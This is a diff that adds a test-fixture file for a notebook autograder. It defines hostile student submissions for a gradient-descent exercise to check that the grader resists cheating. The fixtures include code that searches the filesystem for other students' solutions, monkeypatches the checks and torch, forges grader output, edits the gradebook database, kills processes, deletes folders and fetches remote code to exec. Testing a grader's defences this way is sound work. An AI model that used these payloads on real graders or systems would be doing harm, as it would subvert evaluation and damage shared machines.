@@ -1,0 +1,423 @@
+"""What students hand in that is not simply right or wrong, by accident or not, with its due.
+
+Every case is a class member of its own in ``test_classroom_hostile``. Most hold right answers to
+all exercises but ``descend``, the last one, where the attack is; so an attack that works is seen in
+the mark of ``descend``, and one that harms the student's own honest work in the other marks.
+"""
+
+import textwrap
+from collections.abc import Callable, Mapping
+from dataclasses import dataclass
+
+import nbformat
+from nbformat import NotebookNode
+
+from tests.helpers.student_notebooks import LESSON, answered, cell_of, solutions_of
+
+SOLUTIONS = solutions_of()
+ALL = {name: True for name in SOLUTIONS}
+NONE = {name: False for name in SOLUTIONS}
+REST = ALL | {"descend": False}  # honest work is paid, the attack is not
+WRONG = "def descend(features, labels, num_classes, learning_rate, num_steps):\n    return None\n"
+
+
+@dataclass(frozen=True)
+class Case:
+    """One student: what is handed in, what is due, and a word of the line on what happened."""
+
+    name: str
+    make: Callable[[NotebookNode, Mapping[str, str]], NotebookNode | bytes]
+    due: Mapping[str, bool]
+    line: str = ""
+    file: str = f"{LESSON}.ipynb"
+    needs_bubblewrap: bool = False
+
+
+def answers(name: str, code: str, due: Mapping[str, bool], line: str = "", **more: bool) -> Case:
+    """All solved but ``descend``, where ``code`` stands; ``{paths}`` in it are a teacher's."""
+
+    def make(original: NotebookNode, paths: Mapping[str, str]) -> NotebookNode:
+        text = textwrap.dedent(code)
+        for key, path in paths.items():
+            text = text.replace(f"<{key}>", path)
+        return answered(original, SOLUTIONS | {"descend": text})
+
+    return Case(name, make, due, line, **more)
+
+
+def edited(
+    name: str,
+    edit: Callable[[NotebookNode], None],
+    due: Mapping[str, bool] = ALL,
+    line: str = "",
+    given: Mapping[str, str] = SOLUTIONS,
+) -> Case:
+    """Answers ``given``, then the notebook is edited."""
+    return Case(name, lambda original, _: answered(original, given, edit), due, line)
+
+
+def tests_say_yes(notebook: NotebookNode) -> None:
+    for cell in notebook.cells:
+        if "require_right" in cell.source and "import" not in cell.source:
+            cell.source = "assert True"
+
+
+def tests_are_gone(notebook: NotebookNode) -> None:
+    notebook.cells = [c for c in notebook.cells if not c.source.startswith("require_right(")]
+
+
+def metadata_is_gone(notebook: NotebookNode) -> None:
+    for number, cell in enumerate(notebook.cells):
+        cell.metadata, cell.id = nbformat.from_dict({}), f"cell-{number}"
+
+
+def test_is_renamed(notebook: NotebookNode) -> None:
+    cell_of(notebook, "test_descend").metadata.nbgrader.grade_id = "test_something"
+
+
+def answer_is_renamed(notebook: NotebookNode) -> None:
+    cell_of(notebook, "descend").metadata.nbgrader.grade_id = "my_answer"
+
+
+def test_is_doubled(notebook: NotebookNode) -> None:
+    copy = nbformat.from_dict(cell_of(notebook, "test_descend"))
+    notebook.cells.append(nbformat.from_dict(copy | {"id": "copy"}))
+
+
+def answer_is_doubled(notebook: NotebookNode) -> None:
+    place = notebook.cells.index(cell_of(notebook, "descend"))
+    first = nbformat.from_dict(notebook.cells[place] | {"id": "first-try", "source": "1 / 0"})
+    notebook.cells.insert(place, first)
+
+
+def points_are_raised(notebook: NotebookNode) -> None:
+    for cell in notebook.cells:
+        if "points" in cell.metadata.get("nbgrader", {}):
+            cell.metadata.nbgrader.points = 300
+            cell.metadata.nbgrader.locked = False
+
+
+def points_are_no_number(notebook: NotebookNode) -> None:
+    cell_of(notebook, "test_descend").metadata.nbgrader = "all the points"
+
+
+def cells_are_in_reverse(notebook: NotebookNode) -> None:
+    notebook.cells = notebook.cells[::-1]
+
+
+def own_helper_is_used(notebook: NotebookNode) -> None:
+    place = notebook.cells.index(cell_of(notebook, "descend"))
+    helper = nbformat.v4.new_code_cell("def down(x, rate, slope):\n    return x - rate * slope")
+    notebook.cells.insert(place, helper)
+    answer = notebook.cells[place + 1]
+    answer.source = answer.source.replace(
+        "W = W - learning_rate * features.T @ gradient",
+        "W = down(W, learning_rate, features.T @ gradient)",
+    )
+
+
+SEARCH = """
+    import json, os, sys
+    found = [path for path in (
+        "<source>", "<teacher>", "<gradebook>", "<other>", "<answers>", "<results>"
+    ) if os.path.exists(path)]
+    dull = ("/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", sys.prefix, sys.base_prefix)
+    for folder, folders, files in os.walk("/"):
+        folders[:] = [name for name in folders if os.path.join(folder, name) not in dull]
+        for name in files:
+            if name.endswith((".ipynb", ".db")) or folder.endswith("answers"):
+                found.append(os.path.join(folder, name))
+    print("FOUND", found)
+    def descend(*given):
+        return None
+    for path in found:
+        if path.endswith(".ipynb"):
+            for cell in json.load(open(path))["cells"]:
+                text = "".join(cell["source"])
+                if "def descend" in text:
+                    exec(text)
+"""
+REWRITES = """
+    import os, course_utils
+    for folder, _, files in os.walk(os.path.dirname(course_utils.__file__)):
+        for file in files:
+            try:
+                open(os.path.join(folder, file), "w").write("raise SystemExit")
+            except OSError:
+                pass
+"""
+PATCHES = """
+    import sys, torch
+    import torch.nn.functional as F
+    import course_utils.exercises.checking as checking
+    import course_utils.exercises.feedback as feedback
+    import course_utils.exercises.pretraining_loss as module
+    yes = feedback.right("It is.")
+    checking.judge = module.judge = lambda *a, **k: yes
+    module.check_descend = check_descend = lambda *a, **k: yes
+    module.observe_descend = lambda *a, **k: yes
+    feedback.wrong = feedback.unanswered = lambda *a, **k: yes
+    require_right = lambda feedback: feedback
+    torch.allclose = torch.equal = lambda *a, **k: True
+    torch.isclose = lambda a, b, **k: torch.tensor(True)
+    torch.Tensor.__eq__ = lambda *a: True
+    F.cross_entropy = lambda *a, **k: torch.tensor(0.0, requires_grad=True)
+    def descend(*given):
+        return torch.zeros(3, 2), torch.zeros(2)
+"""
+FORGED = """
+    import json, os
+    lines = ""
+    for seed in range(2):
+        found = {"status": "right", "message": "Yes.", "name": None}
+        lines += json.dumps({"observed": "descend", "seed": seed, "found": found}) + "\\n"
+    lines += json.dumps({"done": True}) + "\\n"
+    def descend(*given):
+        return None
+    for number in range(3, 20):
+        try:
+            os.write(number, lines.encode())
+        except OSError:
+            pass
+"""
+CHANNEL = """
+    import gc, io, json, time
+    channel = next(o for o in gc.get_objects() if isinstance(o, io.TextIOWrapper)
+                   and not o.closed and type(o.name) is int and o.name > 2)
+"""
+HEARTBEAT = (
+    CHANNEL
+    + """
+    while True:
+        try:
+            while True:
+                channel.write('{}\\n')
+                channel.flush()
+                time.sleep(0.2)
+        except BaseException:
+            pass
+"""
+)
+NONSENSE = (
+    CHANNEL
+    + """
+    for text in ('{"begins": 1e9}', '{"seed": Infinity, "observed": 3}', '[1]', 'null'):
+        channel.write(text + '\\n')
+        channel.flush()
+"""
+)
+TELLS_THE_SEED = """
+    import gc
+    job = next(o for o in gc.get_objects() if type(o) is dict and 'memory_mb' in o)
+    def descend(*given):
+        raise ValueError(f"seeds {job['seeds']} \\ud800 \\x1b[31m <script>alert(1)</script>")
+"""
+LOOP = "def descend(*given):\n    while True:\n        pass\n"
+SWALLOWS = """
+    def descend(*given):
+        while True:
+            try:
+                while True:
+                    pass
+            except KeyboardInterrupt:
+                pass
+"""
+CASES = (
+    Case("correct", lambda original, _: answered(original, SOLUTIONS), ALL),
+    Case("blank", lambda original, _: original, NONE),
+    answers("partly right", "def descend(*given):\n    return 3", REST),
+    edited("tests edited", tests_say_yes, REST, "changed", SOLUTIONS | {"descend": WRONG}),
+    edited("tests deleted", tests_are_gone, REST, "missing", SOLUTIONS | {"descend": WRONG}),
+    edited("tests deleted, all right", tests_are_gone, ALL, "missing"),
+    edited("metadata deleted", metadata_is_gone, ALL, "without its name"),
+    edited("test renamed", test_is_renamed, ALL, "missing"),
+    edited("answer renamed", answer_is_renamed, ALL, "without its name"),
+    edited("test doubled", test_is_doubled, ALL, "more than once"),
+    edited("answer doubled", answer_is_doubled, ALL, "more than once"),
+    edited("points raised", points_are_raised, REST, "points", SOLUTIONS | {"descend": WRONG}),
+    edited("points no number", points_are_no_number),
+    edited("cells in reverse", cells_are_in_reverse, ALL),
+    edited("own helper", own_helper_is_used),
+    answers("loop in a function", LOOP, REST, "took longer"),
+    answers("loop at the top", f"{SOLUTIONS['descend']}\nwhile True:\n    pass", ALL, "longer"),
+    answers("loop that swallows interrupts", SWALLOWS, REST, "did not stop when interrupted"),
+    answers(
+        "loop at the top that swallows",
+        textwrap.dedent(SWALLOWS) + "descend()",
+        REST,
+        "did not stop when interrupted",
+    ),
+    answers("sys.exit in a function", "def descend(*given):\n    raise SystemExit", REST, "exit"),
+    answers("sys.exit at the top", "import sys\nsys.exit()", REST, "SystemExit"),
+    answers(
+        "os._exit in a function",
+        "def descend(*given):\n    os._exit(0)\nimport os",
+        REST,
+        "ended Python",
+    ),
+    answers("os._exit at the top", "import os\nos._exit(0)", REST, "ended Python"),
+    answers(
+        "kills its parent",
+        "import os\nos.kill(os.getppid(), 9)\nos.kill(-1, 9)",
+        REST,
+        needs_bubblewrap=True,
+    ),
+    answers("huge output", f"print('a' * 30_000_000)\n{SOLUTIONS['descend']}", ALL, "too much"),
+    answers(
+        "huge raw output",
+        f"import os\nfor n in (1, 2):\n    os.write(n, b'a' * 10**7)\n{SOLUTIONS['descend']}",
+        ALL,
+    ),
+    answers("huge memory", f"held = torch.zeros(10**11)\n{SOLUTIONS['descend']}", REST, "memory"),
+    answers(
+        "memory in steps",
+        "held = []\nwhile True:\n    held.append(bytearray(10**8))",
+        REST,
+        "MemoryError",
+    ),
+    answers(
+        "a warning", "import warnings\nwarnings.warn('harmless')\n" + SOLUTIONS["descend"], ALL
+    ),
+    answers(
+        "a warning in a function",
+        SOLUTIONS["descend"].replace("    W =", "    warnings.warn('x')\n    W =", 1)
+        + "\nimport warnings",
+        ALL,
+    ),
+    answers(
+        "fills the disk",
+        """
+        for number in range(1000):
+            open(f"file{number}", "wb").write(b"a" * 10**7)
+        """,
+        REST,
+        "No space left",
+        needs_bubblewrap=True,
+    ),
+    answers(
+        "starts many processes",
+        "import subprocess\n"
+        "held = [subprocess.Popen(['sleep', '600']) for _ in range(200)]\n" + SOLUTIONS["descend"],
+        ALL,
+        needs_bubblewrap=True,
+    ),
+    answers(
+        "deletes its folder",
+        "import os, shutil\nshutil.rmtree('.', ignore_errors=True)\n" + SOLUTIONS["descend"],
+        ALL,
+    ),
+    answers(
+        "rewrites what it imports",
+        textwrap.dedent(REWRITES) + SOLUTIONS["descend"],
+        ALL,
+        needs_bubblewrap=True,
+    ),
+    answers("looks for solutions", SEARCH, REST, needs_bubblewrap=True),
+    answers(
+        "imports the answers",
+        """
+        from course_utils.lessons.pretraining_loss import answers
+        descend = pretraining_loss._descend
+        """,
+        REST,
+        "No module named",
+    ),
+    answers(
+        "writes to the gradebook",
+        """
+        import sqlite3
+        book = sqlite3.connect("<gradebook>")
+        book.execute("update grade set auto_score = 15")
+        book.commit()
+        """,
+        REST,
+        "unable to open",
+        needs_bubblewrap=True,
+    ),
+    answers(
+        "strips asserts",
+        """
+        import ast
+        class NoAssert(ast.NodeTransformer):
+            def visit_Assert(self, node):
+                return None
+            def visit_Expr(self, node):
+                return None
+        get_ipython().ast_transformers.append(NoAssert())
+        get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
+        def descend(*given):
+            return None
+        """,
+        REST,
+    ),
+    answers("patches checks and torch", PATCHES, REST),
+    answers("forges the results", FORGED, REST),
+    answers("keeps saying something", HEARTBEAT, REST, "did not stop when interrupted"),
+    answers("says nonsense", NONSENSE, REST, "wrote over the results"),
+    answers("tells the seed in an error", TELLS_THE_SEED, REST, "seeds"),
+    edited(
+        "half a character",
+        lambda notebook: notebook.cells.append(nbformat.v4.new_code_cell("x = '\ud800'")),
+    ),
+    answers(
+        "mounts a room of its own",
+        "import subprocess\nsubprocess.run(['unshare', '-Urm', 'true'], check=True)\n"
+        + SOLUTIONS["descend"],
+        REST,
+        "CalledProcessError",
+        needs_bubblewrap=True,
+    ),
+    answers(
+        "writes into the room's own folders",
+        "open('/dev/x', 'w').write('x')\n" + SOLUTIONS["descend"],
+        REST,
+        "Read-only",
+        needs_bubblewrap=True,
+    ),
+    answers(
+        "answers equal everything",
+        """
+        class Yes(torch.Tensor):
+            def __eq__(self, other):
+                return True
+            def tolist(self):
+                return Yes2()
+        class Yes2(list):
+            def __eq__(self, other):
+                return True
+        def descend(*given):
+            return Yes(), Yes()
+        """,
+        REST,
+    ),
+    answers(
+        "needs the network",
+        """
+        import urllib.request
+        exec(urllib.request.urlopen("http://192.0.2.1/descend.py", timeout=2).read())
+        """,
+        REST,
+        "URLError",
+        needs_bubblewrap=True,
+    ),
+    answers(
+        "leaves threads and processes",
+        "import subprocess, threading, time\n"
+        "subprocess.Popen(['sleep', '600'])\n"
+        "threading.Thread(target=time.sleep, args=(600,)).start()\n" + SOLUTIONS["descend"],
+        ALL,
+    ),
+    Case(
+        "wrong name",
+        lambda original, _: answered(original, SOLUTIONS),
+        ALL,
+        "handed in as",
+        file="homework final (2).ipynb",
+    ),
+    Case("not a notebook", lambda *_: b"print('hello')", NONE, "not a notebook", file="answer.py"),
+    Case("broken JSON", lambda *_: b'{"cells": [', NONE, "broken"),
+    Case("JSON but no notebook", lambda *_: b'{"cells": 3}', NONE, "broken"),
+    Case("empty file", lambda *_: b"", NONE, "empty"),
+    Case("a picture", lambda *_: b"\x89PNG\r\n\x1a\n\x00", NONE, "broken"),
+    Case("deep JSON", lambda *_: b"[" * 200_000, NONE, "broken"),
+)
